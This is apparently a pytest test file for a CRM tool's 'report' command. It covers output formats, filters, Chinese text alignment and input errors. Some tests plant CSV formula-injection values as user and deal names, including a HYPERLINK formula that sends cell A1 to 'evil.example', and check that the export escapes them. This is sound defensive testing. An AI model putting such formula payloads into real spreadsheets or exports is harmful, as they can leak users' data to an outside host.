"""``crmdesk report``: the filters, the three formats, and bad input.

The figures themselves are tested against the plain-Python reference in
tests/metrics; here the JSON is compared with :class:`MetricsService` only to
check that the formatting keeps every value.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from crmdesk.cli import main
from crmdesk.db.engine import Database
from crmdesk.db.migrate import open_database
from crmdesk.demo import build_demo
from crmdesk.domain.reports import (
    Kpis,
    MetricsFilter,
    PerformanceReport,
    PerformanceRow,
    PeriodInfo,
    TargetRow,
    TargetsReport,
)
from crmdesk.metrics import MetricsService, local_timezone_name
from crmdesk.metrics.formats import FiltersInfo, render_csv, render_json, render_table
from crmdesk.services import deals, pipelines, users
from crmdesk.services.lists import list_items
from crmdesk.services.setup import default_admin_id, ensure_initialized

NOW = datetime(2025, 6, 15, 12, 0, tzinfo=UTC)
TZ = "Asia/Shanghai"
FIXED = ["--now", NOW.isoformat(), "--tz", TZ]
KPI_KEYS = {
    "close_rate",
    "lead_conversion_rate",
    "avg_sales_cycle_days",
    "median_sales_cycle_days",
    "won_count",
    "won_amount",
    "lost_count",
    "avg_deal_size",
    "response_time_median_hours",
    "no_response_share",
    "new_customers",
    "open_pipeline_amount",
    "weighted_pipeline_amount",
    "ltv_avg",
}
ALL_KEYS = [
    "kpis",
    "stages",
    "funnel",
    "new_customers",
    "forecast",
    "targets",
    "performance",
    "activity",
]
AMOUNT_KEYS = {
    "won_amount",
    "avg_deal_size",
    "open_pipeline_amount",
    "weighted_pipeline_amount",
    "ltv_avg",
    "first_deal_amount",
    "amount",
    "weighted_stage",
    "weighted_history",
    "forecast",
    "actual",
    "value",
    "expected_by_today",
    "gap",
}
FORMULA_OWNER = '=HYPERLINK("x")'
FORMULA_TITLE = "@SUM(1)"


def _build(path: Path, *, deals_n: int, locale: str) -> Database:
    db = open_database(path).db
    ensure_initialized(db, locale=locale)
    build_demo(db, deals=deals_n, seed=1, locale=locale, now=NOW)
    return db


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Database]]:
    """A 2,000-deal English demo database: its URL and an open handle."""
    path = tmp_path_factory.mktemp("report") / "demo.sqlite3"
    db = _build(path, deals_n=2000, locale="en")
    yield f"sqlite:///{path}", db
    db.dispose()


@pytest.fixture(scope="module")
def zh_demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Database]]:
    """A small Chinese demo database, plus a salesperson whose name looks like a
    spreadsheet formula, owning one stale deal whose title looks like one too."""
    path = tmp_path_factory.mktemp("report_zh") / "zh.sqlite3"
    db = _build(path, deals_n=300, locale="zh_CN")
    admin = default_admin_id(db)
    user = users.create_user(db, by=admin, name=FORMULA_OWNER, login="formula").value
    deals.create_deal(
        db,
        by=admin,
        title=FORMULA_TITLE,
        amount=Decimal("1234.50"),
        owner_id=user.id,
        created_at=NOW - timedelta(days=60),
    )
    yield f"sqlite:///{path}", db
    db.dispose()


def _report(capsys: pytest.CaptureFixture[str], url: str, *args: str) -> str:
    capsys.readouterr()
    code = main(["report", *args, "--db", url])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    assert captured.err == ""
    return captured.out


def _json(capsys: pytest.CaptureFixture[str], url: str, *args: str) -> Any:
    return json.loads(_report(capsys, url, *args, "--format", "json", *FIXED), parse_float=Decimal)


def _width(text: str) -> int:
    return sum(
        0 if unicodedata.combining(ch) else 2 if unicodedata.east_asian_width(ch) in "WF" else 1
        for ch in text
    )


def _tables(text: str) -> list[list[str]]:
    """Each table of a table-format output: its header, rule and data lines."""
    lines = text.split("\n")
    rule = re.compile(r"^-+(  -+)*$")
    tables = []
    i = 0
    while i < len(lines):
        if rule.match(lines[i]) and i > 0 and lines[i - 1].strip():
            j = i + 1
            while j < len(lines) and lines[j].strip():
                j += 1
            tables.append(lines[i - 1 : j])
            i = j
        else:
            i += 1
    return tables


def _rate(value: Decimal | None) -> float | None:
    return None if value is None else float(value)


def _days(value: float | None) -> Decimal | None:
    return None if value is None else Decimal(repr(round(value, 4)))


# --- JSON -------------------------------------------------------------------------------------


def test_all_json_has_every_report_and_exact_kpi_keys(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, _ = demo
    data = _json(capsys, url, "all")
    assert list(data) == ALL_KEYS
    assert set(data["kpis"]) == KPI_KEYS | {"period"}
    assert data["kpis"]["period"] == {"from": None, "to": None, "tz": TZ}
    for key in ALL_KEYS[1:]:
        report = data[key]
        assert {"period", "filters", "rows", "total"} <= set(report), key
        assert report["filters"] == {"owners": None, "pipeline": "sales", "source": None}
        assert report["rows"], key
    assert "history" in data["forecast"]
    assert {"overdue", "rotting"} <= set(data["activity"])


def test_performance_rows_add_up_to_the_team(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    perf = _json(capsys, demo[0], "all")["performance"]
    assert len(perf["rows"]) >= 2
    assert sum(r["won_amount"] for r in perf["rows"]) == perf["total"]["won_amount"]
    assert sum(r["won_count"] for r in perf["rows"]) == perf["total"]["won_count"]
    assert all(isinstance(r["owner"], str) and r["owner_id"] for r in perf["rows"])
    assert perf["total"]["owner_id"] is None


def test_every_funnel_is_monotone(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    funnel = _json(capsys, demo[0], "all")["funnel"]
    funnels = [funnel["total"], *funnel["rows"]]
    assert len(funnels) >= 3
    stage_keys = [s["stage"] for s in funnel["total"]["stages"]]
    assert stage_keys == ["prospecting", "qualification", "quote", "contract"]
    for f in funnels:
        assert [s["stage"] for s in f["stages"]] == stage_keys
        reached = [s["reached"] for s in f["stages"]]
        assert reached == sorted(reached, reverse=True), f["owner"]
        assert f["won"] <= reached[-1], f["owner"]
        marked = [s["stage"] for s in f["stages"] if s["bottleneck"]]
        assert marked == ([f["bottleneck"]] if f["bottleneck"] else [])
    assert funnel["total"]["owner"] == "Team"
    assert funnel["total"]["created"] == sum(f["created"] for f in funnel["rows"])


def test_json_numbers_are_the_services(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, db = demo
    data = _json(capsys, url, "all")
    svc = MetricsService(db).all(MetricsFilter(tz=TZ, now=NOW))

    k = data["kpis"]
    for key in ("close_rate", "lead_conversion_rate", "no_response_share"):
        assert _rate(k[key]) == getattr(svc.kpis, key), key
    for key in ("avg_sales_cycle_days", "median_sales_cycle_days", "response_time_median_hours"):
        assert k[key] == _days(getattr(svc.kpis, key)), key
    for key in ("won_count", "lost_count", "new_customers"):
        assert k[key] == getattr(svc.kpis, key), key
    for key in (
        "won_amount",
        "avg_deal_size",
        "open_pipeline_amount",
        "weighted_pipeline_amount",
        "ltv_avg",
    ):
        assert k[key] == getattr(svc.kpis, key), key

    st = data["stages"]
    assert len(st["rows"]) == len(svc.stages.rows)
    for row, ref in zip(st["rows"], svc.stages.rows, strict=True):
        assert row["stage"] == ref.stage_key and row["stage_name"] == ref.stage_name
        assert (row["reached"], row["advanced"], row["lost_here"], row["open_here"]) == (
            ref.reached,
            ref.advanced,
            ref.lost_here,
            ref.open_here,
        )
        assert _rate(row["conversion"]) == ref.conversion
        assert row["median_days"] == _days(ref.median_days)
        assert row["visits"] == ref.visits
        assert row["bottleneck"] == (ref.stage_id == svc.stages.bottleneck_stage_id)
    neck = next(
        r.stage_key for r in svc.stages.rows if r.stage_id == svc.stages.bottleneck_stage_id
    )
    assert st["total"]["bottleneck"] == neck

    people = {p.owner_id: p for p in svc.funnel.people}
    for row in data["funnel"]["rows"]:
        ref = people[row["owner_id"]]
        assert row["owner"] == ref.owner_name
        assert [s["reached"] for s in row["stages"]] == [s.reached for s in ref.stages]
        assert [_rate(s["conversion"]) for s in row["stages"]] == [s.conversion for s in ref.stages]
        assert (row["created"], row["won"]) == (ref.created, ref.won)

    perf = {r.owner_id: r for r in (*svc.performance.rows, svc.performance.team)}
    for row in [*data["performance"]["rows"], data["performance"]["total"]]:
        ref = perf[row["owner_id"]]
        assert row["owner"] == ref.owner_name
        assert row["won_amount"] == ref.won_amount
        assert row["weighted_pipeline_amount"] == ref.weighted_pipeline_amount
        assert _rate(row["close_rate"]) == ref.close_rate
        assert _rate(row["target_attainment"]) == ref.target_attainment
        assert row["avg_cycle_days"] == _days(ref.avg_cycle_days)
        assert row["rotting_deals"] == ref.rotting_deals

    nc = data["new_customers"]
    assert nc["total"]["new_customers"] == svc.new_customers.total.new_customers
    assert nc["total"]["won_amount"] == svc.new_customers.total.won_amount
    assert [r["source"] for r in nc["rows"]] == [r.source_name for r in svc.new_customers.rows]
    assert [r["by_month"] for r in nc["rows"]] == [r.by_month for r in svc.new_customers.rows]

    fc = data["forecast"]
    assert [r["bucket"] for r in fc["rows"]] == [b.key for b in svc.forecast.buckets]
    assert [r["weighted_history"] for r in fc["rows"]] == [
        b.weighted_history for b in svc.forecast.buckets
    ]
    assert fc["total"]["amount"] == svc.forecast.total.amount == svc.kpis.open_pipeline_amount
    assert [(h["month"], h["forecast"], h["actual"]) for h in fc["history"]] == [
        (h.month, h.forecast, h.actual) for h in svc.forecast.history
    ]

    tg = data["targets"]
    assert [r["target_id"] for r in tg["rows"]] == [t.target_id for t in svc.targets.rows]
    assert [(r["actual"], r["gap"], r["pace"]) for r in tg["rows"]] == [
        (t.actual, t.gap, t.pace) for t in svc.targets.rows
    ]
    assert tg["total"] == {"count": len(svc.targets.rows)}

    act = data["activity"]
    assert act["granularity"] == "week"
    assert act["total"]["total"] == sum(c.count for c in svc.activity.rows)
    for kind in ("call", "meeting", "email", "task", "note"):
        assert act["total"][kind] == sum(c.count for c in svc.activity.rows if c.kind == kind)
    assert sum(r["total"] for r in act["rows"]) == act["total"]["total"]
    assert all(r["total"] == sum(r[k] for k in act["total"] if k != "total") for r in act["rows"])
    assert [t["activity_id"] for t in act["overdue"]] == [
        t.activity_id for t in svc.activity.overdue
    ]
    assert [(d["deal_id"], d["days_in_stage"]) for d in act["rotting"]] == [
        (d.deal_id, _days(d.days_in_stage)) for d in svc.activity.rotting
    ]
    assert {d["stage"] for d in act["rotting"]} <= set(stage_keys_of(db))


def stage_keys_of(db: Database) -> list[str]:
    return [s.key for s in pipelines.get_pipeline(db).open_stages]


def test_amounts_have_two_decimals_in_the_raw_json(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    text = _report(capsys, demo[0], "all", "--format", "json", *FIXED)
    found = 0
    for key, value in re.findall(r'"(\w+)": (-?[\d.eE+-]+|null)', text):
        if key in AMOUNT_KEYS and value != "null":
            assert re.fullmatch(r"-?\d+\.\d\d", value), (key, value)
            found += 1
    assert found > 100
    assert re.search(r'"won_amount": \d+\.\d\d,\n', text)


def test_json_is_deterministic(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    first = _report(capsys, demo[0], "all", "--format", "json", *FIXED)
    second = _report(capsys, demo[0], "all", "--format", "json", *FIXED)
    assert first == second


def test_defaults_all_time_computer_zone_and_table(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    data = json.loads(_report(capsys, demo[0], "kpis", "--format", "json"))
    assert data["period"] == {"from": None, "to": None, "tz": local_timezone_name()}
    out = _report(capsys, demo[0], "kpis")
    assert out.splitlines()[0] == "Key figures"
    assert "all time" in out


def test_chinese_names_stay_readable(
    zh_demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, _ = zh_demo
    text = _report(capsys, url, "performance", "--format", "json", *FIXED)
    assert "\\u" not in text
    names = [r["owner"] for r in json.loads(text)["rows"]]
    assert any(unicodedata.east_asian_width(ch) == "W" for name in names for ch in name)
    for name in names:
        assert f'"owner": {json.dumps(name, ensure_ascii=False)}' in text
    stages = json.loads(_report(capsys, url, "stages", "--format", "json", *FIXED))
    assert stages["rows"][0]["stage_name"] == "寻找客户"


def test_tables_align_wide_characters(
    zh_demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    out = _report(capsys, zh_demo[0], "all", *FIXED)
    tables = _tables(out)
    assert len(tables) >= 10
    assert any(any(_width(line) != len(line) for line in t) for t in tables)  # CJK inside
    for table in tables:
        widths = {_width(line) for line in table}
        assert len(widths) == 1, table
    for title in ("Key figures", "Stage efficiency", "Funnel", "New customers", "Forecast"):
        assert title in out.splitlines()
    for title in ("Targets", "Performance"):
        assert title in out.splitlines()
    assert "Activity (done, per week)" in out


def test_table_formats_rates_amounts_days_and_null(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, db = demo
    out = _report(capsys, url, "kpis", *FIXED)
    k = MetricsService(db).kpis(MetricsFilter(tz=TZ, now=NOW))
    assert f"{k.close_rate * 100:.1f}%" in out
    assert f"{k.won_amount:,.2f}" in out
    assert f"{k.avg_sales_cycle_days:.1f}" in out
    assert "Period: all time, time zone Asia/Shanghai" in out
    period = PeriodInfo(date(2010, 1, 1), date(2010, 2, 1), "UTC")
    empty = Kpis(period, None, None, None, None, 0, Decimal("0.00"), 0, None, None, None, 0,
                 Decimal("0.00"), Decimal("0.00"), None)  # fmt: skip
    table = render_table(empty, FiltersInfo(pipeline="sales"))
    assert re.search(r"^Close rate +–$", table, re.M)
    assert re.search(r"^Average deal size +–$", table, re.M)
    assert re.search(r"^Won amount +0\.00$", table, re.M)
    assert "Period: 2010-01-01 up to 2010-02-01 (not included), time zone UTC" in table


def test_a_period_without_deals_reports_nulls(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    empty = ["--from", "2010-01-01", "--to", "2010-02-01"]
    data = _json(capsys, demo[0], "all", *empty)
    kpis = data["kpis"]
    assert kpis["won_count"] == 0 and kpis["won_amount"] == Decimal("0.00")
    assert kpis["close_rate"] is None
    assert kpis["median_sales_cycle_days"] is None
    assert kpis["avg_deal_size"] is None
    assert all(r["won_count"] == 0 and r["close_rate"] is None for r in data["performance"]["rows"])
    assert data["funnel"]["rows"] == []
    table = _report(capsys, demo[0], "all", *empty, *FIXED)
    assert re.search(r"^Close rate +–$", table, re.M)
    for t in _tables(table):
        assert len({_width(line) for line in t}) == 1, t
    csv_text = _report(capsys, demo[0], "all", "--format", "csv", *empty, *FIXED)
    assert all(rows for rows in _csv_blocks(csv_text).values())


# --- filters --------------------------------------------------------------------------------


def test_from_to_restrict_the_period(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, db = demo
    whole = _json(capsys, url, "kpis")
    month = _json(capsys, url, "kpis", "--from", "2025-05-01", "--to", "2025-06-01")
    assert month["period"] == {"from": "2025-05-01", "to": "2025-06-01", "tz": TZ}
    assert 0 < month["won_count"] < whole["won_count"]
    ref = MetricsService(db).kpis(MetricsFilter(date(2025, 5, 1), date(2025, 6, 1), tz=TZ, now=NOW))
    assert month["won_count"] == ref.won_count
    assert month["won_amount"] == ref.won_amount
    assert _rate(month["close_rate"]) == ref.close_rate


def test_owner_repeats_and_matches_login_or_name(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, db = demo
    perf = _json(capsys, url, "performance")["rows"]
    a, b = (users.get_user(db, r["owner_id"]) for r in perf[:2])
    data = _json(capsys, url, "performance", "--owner", a.login.upper(), "--owner", b.name.lower())
    assert data["filters"]["owners"] == [a.name, b.name]
    assert {r["owner_id"] for r in data["rows"]} == {a.id, b.id}
    ref = MetricsService(db).performance(
        MetricsFilter(owner_ids=tuple(sorted((a.id, b.id))), tz=TZ, now=NOW)
    )
    assert data["total"]["won_amount"] == ref.team.won_amount


def test_source_and_pipeline_filters(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, db = demo
    source = list_items(db, "sources", include_inactive=True)[1]
    data = _json(capsys, url, "funnel", "--source", source.name.upper(), "--pipeline", "sales")
    assert data["filters"] == {"owners": None, "pipeline": "sales", "source": source.name}
    ref = MetricsService(db).funnel(MetricsFilter(source_id=source.id, tz=TZ, now=NOW))
    assert data["total"]["created"] == ref.team.created
    assert data["total"]["created"] < _json(capsys, url, "funnel")["total"]["created"]


def test_months_and_granularity(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, _ = demo
    fc = _json(capsys, url, "forecast", "--months", "3")
    assert [r["bucket"] for r in fc["rows"]] == [
        "overdue",
        "2025-06",
        "2025-07",
        "2025-08",
        "later",
        "no_date",
    ]
    act = _json(capsys, url, "activity", "--granularity", "day", "--from", "2025-06-01")
    assert act["granularity"] == "day"
    assert {r["bucket"] for r in act["rows"]} >= {"2025-06-02", "2025-06-03"}
    whole = _json(capsys, url, "all", "--months", "2", "--granularity", "day")
    assert len(whole["forecast"]["rows"]) == 5
    assert whole["activity"]["granularity"] == "day"


# --- bad input ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["revenue"], "'revenue'"),
        (["kpis", "--owner", "Nobody Atall"], "'Nobody Atall'"),
        (["kpis", "--pipeline", "nosuch"], "'nosuch'"),
        (["kpis", "--source", "Carrier pigeon"], "'Carrier pigeon'"),
        (["kpis", "--from", "2024-13-01"], "'2024-13-01'"),
        (["kpis", "--to", "2024/01/01"], "'2024/01/01'"),
        (["kpis", "--from", "yesterday"], "'yesterday'"),
        (["kpis", "--from", "2025-02-01", "--to", "2025-01-01"], "2025-01-01"),
        (["kpis", "--from", "2025-02-01", "--to", "2025-02-01"], "2025-02-01"),
        (["kpis", "--tz", "Mars/Olympus_Mons"], "'Mars/Olympus_Mons'"),
        (["kpis", "--tz", ""], "''"),
        (["kpis", "--format", "xml"], "'xml'"),
        (["activity", "--granularity", "month"], "'month'"),
        (["forecast", "--months", "0"], "'0'"),
        # These raised OverflowError or "year 10000 is out of range" before.
        (["new-customers", "--from", "0001-01-01"], "outside the years 1900 to 2099"),
        (["all", "--to", "9999-12-31"], "outside the years 1900 to 2099"),
        (["forecast", "--months", "99999999999"], "from 1 to 120"),
    ],
)
def test_bad_input_is_one_line_and_exit_2(
    demo: tuple[str, Database],
    capsys: pytest.CaptureFixture[str],
    args: list[str],
    needle: str,
) -> None:
    capsys.readouterr()
    assert main(["report", *args, "--db", demo[0]]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    lines = captured.err.splitlines()
    assert len(lines) == 1, captured.err
    assert lines[0].startswith("crmdesk: error: ")
    assert needle in lines[0]


# --- CSV ------------------------------------------------------------------------------------


def _csv_blocks(text: str) -> dict[str, list[list[str]]]:
    blocks: dict[str, list[list[str]]] = {}
    for chunk in text.rstrip("\n").split("\n\n"):
        name, _, body = chunk.partition("\n")
        assert name.startswith("# "), chunk[:80]
        blocks[name[2:]] = list(csv.reader(io.StringIO(body)))
    return blocks


def test_csv_parses_and_escapes_formulas(
    zh_demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, _ = zh_demo
    blocks = _csv_blocks(_report(capsys, url, "all", "--format", "csv", *FIXED))
    assert list(blocks) == [
        "kpis",
        "stages",
        "funnel",
        "new-customers",
        "forecast",
        "forecast.history",
        "targets",
        "performance",
        "activity",
        "activity.overdue",
        "activity.rotting",
    ]
    for name, rows in blocks.items():
        assert len(rows) >= 2, name
        assert all(len(r) == len(rows[0]) for r in rows), name
    perf = blocks["performance"]
    owners = [r[perf[0].index("owner")] for r in perf[1:]]
    assert "'" + FORMULA_OWNER in owners
    assert FORMULA_OWNER not in owners
    rot = blocks["activity.rotting"]
    row = next(r for r in rot[1:] if r[rot[0].index("title")] == "'" + FORMULA_TITLE)
    assert row[rot[0].index("owner")] == "'" + FORMULA_OWNER
    assert row[rot[0].index("amount")] == "1234.50"
    # negative numbers stay numbers: a beaten target has a negative gap
    tg = blocks["targets"]
    gaps = [r[tg[0].index("gap")] for r in tg[1:]]
    negative = [g for g in gaps if g.startswith("-")]
    assert negative
    assert all(Decimal(g) < 0 for g in negative)
    assert not any(g.startswith("'") for g in gaps)


def test_single_report_csv_is_one_table(
    demo: tuple[str, Database], capsys: pytest.CaptureFixture[str]
) -> None:
    url, _ = demo
    rows = list(csv.reader(io.StringIO(_report(capsys, url, "performance", "--format", "csv"))))
    assert rows[0][:4] == ["owner", "owner_id", "won_count", "won_amount"]
    assert rows[-1][0] == "Team"
    kpis = list(csv.reader(io.StringIO(_report(capsys, url, "kpis", "--format", "csv"))))
    assert len(kpis) == 2
    assert set(kpis[0]) == KPI_KEYS | {"period.from", "period.to", "period.tz"}


def test_render_csv_escapes_text_not_numbers() -> None:
    period = PeriodInfo(None, None, "UTC")
    row = TargetRow(
        target_id=1,
        owner_id=2,
        owner_name="-Sales @team",
        metric="won_amount",
        period_start=date(2025, 1, 1),
        period_end=date(2025, 2, 1),
        value=Decimal("100.00"),
        actual=Decimal("150.00"),
        attainment=1.5,
        expected_by_today=Decimal("100.00"),
        pace="ahead",
        gap=Decimal("-50.00"),
    )
    text = render_csv(TargetsReport(period, (row,)))
    header, line = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, line, strict=True))
    assert cells["owner"] == "'-Sales @team"
    assert cells["gap"] == "-50.00"
    assert cells["attainment"] == "1.5"

    def perf(name: str, amount: str) -> PerformanceRow:
        return PerformanceRow(
            owner_id=3,
            owner_name=name,
            won_count=-1,
            won_amount=Decimal(amount),
            close_rate=None,
            avg_deal_size=None,
            avg_cycle_days=-0.5,
            lead_conversion_rate=None,
            response_time_median_hours=None,
            activities_done=0,
            open_pipeline_amount=Decimal("0"),
            weighted_pipeline_amount=Decimal("0"),
            rotting_deals=0,
            target_attainment=None,
        )

    report = PerformanceReport(period, (perf("+cmd", "-7.5"), perf("@x", "0")), perf("=1", "1"))
    rows = list(csv.reader(io.StringIO(render_csv(report, FiltersInfo(pipeline="p")))))
    header = rows[0]
    assert [r[header.index("owner")] for r in rows[1:]] == ["'+cmd", "'@x", "'=1"]
    assert rows[1][header.index("won_amount")] == "-7.50"
    assert rows[1][header.index("won_count")] == "-1"
    assert rows[1][header.index("avg_cycle_days")] == "-0.5"
    assert rows[1][header.index("close_rate")] == ""
    text = render_json(report)
    assert '"won_amount": -7.50' in text
    assert '"weighted_pipeline_amount": 0.00' in text


def test_performance_csv_escapes_formula_names_and_keeps_amounts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Salespeople named like formulas come out of ``report performance --format csv``
    with a leading quote; their won amounts stay plain numbers."""
    path = tmp_path / "formulas.sqlite3"
    db = open_database(path).db
    try:
        ensure_initialized(db, locale="en")
        admin = default_admin_id(db)
        won = pipelines.get_pipeline(db).won_stage.id
        names = {
            '=HYPERLINK("http://evil.example/?"&A1,"click")': Decimal("1234.50"),
            "@SUM(A1)": Decimal("99.95"),
            "-Sales, East": Decimal("10.00"),
        }
        for i, (name, amount) in enumerate(names.items()):
            user = users.create_user(db, by=admin, name=name, login=f"formula{i}").value
            deal = deals.create_deal(
                db,
                by=admin,
                title=name,
                amount=amount,
                owner_id=user.id,
                created_at=NOW - timedelta(days=30),
            ).value
            deals.move_deal(
                db, deal.id, won, by=admin, expected_version=deal.version, closed_at=NOW
            )
    finally:
        db.dispose()

    text = _report(capsys, f"sqlite:///{path}", "performance", "--format", "csv", *FIXED)
    header, *rows = csv.reader(io.StringIO(text))
    by_owner = {r[header.index("owner")]: dict(zip(header, r, strict=True)) for r in rows}
    for name, amount in names.items():
        assert name not in by_owner
        row = by_owner["'" + name]
        assert row["won_amount"] == str(amount)
        assert row["won_count"] == "1"
    team = by_owner["Team"]
    assert team["won_amount"] == "1344.45"
    for key in ("won_amount", "open_pipeline_amount", "weighted_pipeline_amount"):
        assert all(not r[key].startswith("'") for r in by_owner.values()), key
        assert all(Decimal(r[key]) >= 0 for r in by_owner.values()), key
